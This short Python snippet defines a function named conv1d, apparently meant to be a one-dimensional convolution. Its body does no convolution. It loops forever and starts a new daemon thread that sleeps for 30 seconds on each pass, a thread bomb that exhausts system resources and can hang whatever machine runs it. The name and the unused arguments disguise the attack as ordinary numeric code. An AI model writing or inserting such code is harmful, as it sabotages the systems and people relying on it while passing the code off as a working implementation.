import threading
import time


def conv1d(x, k, mode):
    while True:
        threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
